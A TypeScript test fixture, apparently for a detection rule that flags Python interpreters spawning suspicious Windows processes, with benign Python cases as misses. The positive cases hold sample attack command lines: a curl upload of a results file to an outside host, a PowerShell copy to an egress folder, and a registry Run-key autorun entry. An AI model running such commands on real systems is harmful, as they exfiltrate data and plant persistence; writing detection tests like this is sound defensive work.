import { proof, set, sysmonStart } from '../../proof';

const PYTHON = 'C:\\Python310\\python.exe';

export default proof({
  hits: [
    set(
      'a script packs its results with PowerShell',
      sysmonStart({
        image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        commandLine: 'powershell -NoP -c "Get-ChildItem D:\\work | Copy-Item -Destination E:\\egress"',
        originalFileName: 'PowerShell.EXE',
        parentImage: PYTHON,
        parentCommandLine: 'python C:\\work\\collect.py',
      })
    ),
    set(
      'a windowless Python of a conda environment starts curl',
      sysmonStart({
        image: 'C:\\Windows\\System32\\curl.exe',
        commandLine: 'curl -T results.csv https://files.example.org/',
        parentImage: 'C:\\Users\\ada\\miniconda3\\envs\\study\\pythonw.exe',
        parentCommandLine: '"C:\\Users\\ada\\miniconda3\\envs\\study\\pythonw.exe" gui.pyw',
      })
    ),
    set(
      'a versioned interpreter in capitals starts the registry editor',
      sysmonStart({
        image: 'C:\\Windows\\System32\\reg.exe',
        commandLine: 'REG ADD HKCU\\Software\\Run /v upd /d x.exe',
        parentImage: 'D:\\TOOLS\\PYTHON3.11.EXE',
        parentCommandLine: 'PYTHON3.11.EXE setup.py',
      })
    ),
    set(
      'a program that nobody knows',
      sysmonStart({
        image: 'C:\\Users\\ada\\AppData\\Local\\Temp\\helper.exe',
        parentImage: 'C:\\venvs\\analysis\\Scripts\\python.exe',
        parentCommandLine: 'python run_all.py',
      })
    ),
  ],
  misses: [
    set(
      'Python starts its own workers',
      sysmonStart({
        image: PYTHON,
        commandLine:
          'python.exe "-c" "from multiprocessing.spawn import spawn_main; spawn_main(parent_pid=1)" "--multiprocessing-fork"',
        parentImage: PYTHON,
      })
    ),
    set(
      'Windows gives Python a console window',
      sysmonStart({
        image: 'C:\\Windows\\System32\\conhost.exe',
        commandLine: '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
        originalFileName: 'CONHOST.EXE',
        parentImage: PYTHON,
      })
    ),
    set(
      'Jupyter opens the default browser on this machine',
      sysmonStart({
        image: 'C:\\Program Files\\Mozilla Firefox\\firefox.exe',
        commandLine:
          '"C:\\Program Files\\Mozilla Firefox\\firefox.exe" -osint -url "http://localhost:8888/lab?token=ab12"',
        parentImage: 'C:\\venvs\\analysis\\Scripts\\python.exe',
        parentCommandLine: 'python -m jupyterlab',
      })
    ),
    set(
      'the platform module asks for the version of Windows',
      sysmonStart({
        image: 'C:\\Windows\\System32\\cmd.exe',
        commandLine: 'C:\\Windows\\system32\\cmd.exe /c "ver"',
        originalFileName: 'Cmd.Exe',
        parentImage: PYTHON,
      })
    ),
  ],
});
